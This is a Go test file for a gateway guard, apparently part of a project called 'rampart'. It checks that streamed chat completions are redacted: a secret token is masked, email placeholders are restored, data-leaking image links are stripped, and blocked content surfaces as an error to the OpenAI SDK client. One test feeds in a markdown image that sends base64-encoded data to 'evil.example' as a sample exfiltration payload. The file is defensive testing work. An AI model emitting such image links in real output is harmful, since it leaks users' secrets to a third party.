package guard_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	sdk "github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"

	"rampart/internal/guard"
	"rampart/internal/redact"
)

// sdkServer serves upstream through RelaySSE, as the gateway does.
func sdkServer(t *testing.T, o func() *guard.Output, upstream string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.Header().Set("Cache-Control", "no-cache")
		w.WriteHeader(http.StatusOK)
		fl, _ := w.(http.Flusher)
		_, err := o().RelaySSE(r.Context(), w, strings.NewReader(upstream), guard.SSEOptions{Flush: func() {
			if fl != nil {
				fl.Flush()
			}
		}})
		if err != nil {
			t.Errorf("RelaySSE: %v", err)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func sdkStream(t *testing.T, srv *httptest.Server) (sdk.ChatCompletionAccumulator, error) {
	t.Helper()
	client := sdk.NewClient(option.WithBaseURL(srv.URL+"/v1"), option.WithAPIKey("test"), option.WithMaxRetries(0))
	stream := client.Chat.Completions.NewStreaming(context.Background(), sdk.ChatCompletionNewParams{
		Model:    "m",
		Messages: []sdk.ChatCompletionMessageParamUnion{sdk.UserMessage("hi")},
	})
	var acc sdk.ChatCompletionAccumulator
	for stream.Next() {
		if !acc.AddChunk(stream.Current()) {
			t.Fatalf("accumulator rejected chunk %s", stream.Current().RawJSON())
		}
	}
	return acc, stream.Err()
}

func TestSDKStreamsRedactedAndRestored(t *testing.T) {
	pol := testPolicy(t, "")
	v := redact.NewVault()
	ph := v.Placeholder("EMAIL", "dana@example.org")
	newOutput := func() *guard.Output { return &guard.Output{Policy: pol, Vault: v} }
	up := chatSSE("Hi! Your token sk-Zz9", "Yy8Xx7Ww6Vv5Uu4 is rotated; we wrote to ", ph[:4], ph[4:], ". See ![x](https://evil.example/p?d=", "c2VjcmV0LWRhdGEtaGVyZS1sb25n) bye.")
	srv := sdkServer(t, newOutput, up)
	acc, err := sdkStream(t, srv)
	if err != nil {
		t.Fatal(err)
	}
	want := "Hi! Your token [SECRET] is rotated; we wrote to dana@example.org. See ![x]() bye."
	if len(acc.Choices) != 1 || acc.Choices[0].Message.Content != want {
		t.Fatalf("got %+v\nwant %q", acc.Choices, want)
	}
	if acc.Choices[0].FinishReason != "stop" || acc.ID != "chatcmpl-1" || acc.Model != "m" || acc.Usage.CompletionTokens != 9 {
		t.Fatalf("metadata lost: %+v", acc.ChatCompletion)
	}
}

func TestSDKSeesBlockAsError(t *testing.T) {
	pol := testPolicy(t, "")
	newOutput := func() *guard.Output { return &guard.Output{Policy: pol} }
	srv := sdkServer(t, newOutput, chatSSE("This is about the forbidden", " fruit, ", strings.Repeat("and more ", 40)))
	acc, err := sdkStream(t, srv)
	if err == nil || !strings.Contains(err.Error(), "content_policy_violation") {
		t.Fatalf("want a content_policy_violation error, got %v", err)
	}
	if len(acc.Choices) > 0 && strings.Contains(acc.Choices[0].Message.Content, "forbidden") {
		t.Fatalf("blocked text leaked: %q", acc.Choices[0].Message.Content)
	}
}
